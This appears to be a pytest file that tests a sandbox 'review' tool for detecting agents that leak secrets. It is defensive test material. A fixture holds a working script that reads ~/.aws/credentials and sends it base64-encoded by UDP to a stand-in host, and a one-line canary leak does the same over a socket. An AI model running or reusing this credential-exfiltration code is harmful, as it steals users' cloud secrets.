"""``review`` from end to end: agents run in the sandbox, and what the review says of them."""

from __future__ import annotations

import json
import sys
from pathlib import Path

import pytest
from running import Product

PYTHON = sys.executable
KEY = "q8Zt3Vn0YxKc5RbW7LmHd2PfJs9GaEu4TiQoXyB1"
THIEF = """
import base64, os, socket

def load():
    return open(os.path.expanduser("~/.aws/credentials"), "rb").read()

def send(data):
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(base64.b64encode(data), ("198.51.100.7", 5140))

send(load())
"""


@pytest.fixture
def thief(product: Product) -> Product:
    """A run named ``thief`` that sends a key away, base64, in a datagram."""
    directory = Path(product.env["HOME"]) / ".aws"
    directory.mkdir()
    (directory / "credentials").write_text(f"[default]\naws_access_key_id = AKIAQX7ZPLM2N4RTVWY5\naws_secret_access_key = {KEY}\n")
    (product.work / "agent.py").write_text(THIEF)
    product.record("thief", PYTHON, "-S", "-E", "agent.py")
    return product


def test_a_key_that_was_sent_is_found_proven_and_masked(thief: Product) -> None:
    finished = thief("review", "thief", "--html", "r.html", "--sarif", "r.sarif", "--markdown", "r.md", "--ocsf", "r.jsonl")
    text = finished.stdout.decode()
    assert finished.status == 1 and "CRITICAL SEN-001" in text and "198.51.100.7" in text
    assert "agent.py:8 send" in text
    reports = [(thief.work / name).read_text() for name in ("r.html", "r.sarif", "r.md", "r.jsonl")]
    assert all("SEN-001" in report for report in reports)
    assert not any(KEY in report or KEY[8:-8] in report for report in (text, *reports))
    assert json.loads(reports[1])["version"] == "2.1.0"
    assert (thief.work / "r.html").stat().st_mode & 0o777 == 0o600


def test_json_names_the_events_that_prove_it(thief: Product) -> None:
    finished = thief("review", "thief", "--json", "--no-where")
    report = json.loads(finished.stdout)
    (finding,) = [finding for finding in report["findings"] if finding["id"] == "SEN-001"]
    seqs = [item["seq"] for item in finding["evidence"]]
    assert finished.status == 1 and seqs == sorted(seqs)
    (event,) = [event for event in thief.json("show", "thief", "--syscall", "sendto", "--json") if event["seq"] == seqs[-1]]
    assert event["call"] == "sendto"


def test_threshold_suppression_and_baseline_decide_the_exit_status(thief: Product) -> None:
    report = json.loads(thief("review", "thief", "--json", "--no-where").stdout)
    entries = [f'- {{fingerprint: "{found["fingerprint"]}", reason: a test, expires: never}}' for found in report["findings"]]
    (thief.work / "accepted.yaml").write_text("suppressions:\n" + "\n".join(entries) + "\n")
    accepted = thief("review", "thief", "--suppress", "accepted.yaml")
    assert (accepted.status, b"NO FINDINGS" in accepted.stdout) == (0, True), accepted
    assert thief("review", "thief", "-q").status == 2
    assert thief("review", "nothing").status == 2
    assert thief("review", "thief", "--rules", "none.yaml").status == 2
    thief.record("honest", PYTHON, "-S", "-E", "-c", "print('hello')")
    saved = thief("review", "honest", "--save-baseline", "usual.json")
    assert saved.status == 0, saved
    compared = thief("review", "thief", "--baseline", "usual.json", "--suppress", "accepted.yaml", "--json", "--no-where")
    assert any("198.51.100.7" in new for new in json.loads(compared.stdout)["new"]), compared
    assert thief("review", "honest", "--baseline", "honest").status == 0


def test_a_canary_that_leaves_is_found(product: Product) -> None:
    code = "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'7261626269742d686f6c652d34377831', ('198.51.100.7', 9))"
    product.record("leak", PYTHON, "-S", "-E", "-c", code)
    assert product("review", "leak", "--no-where").status == 0
    found = product("review", "leak", "--no-where", "--canary", "rabbit=rabbit-hole-47x1")
    assert found.status == 1 and b"rabbit" in found.stdout, found
    assert product("review", "leak", "--canary", "short=abc").status == 2
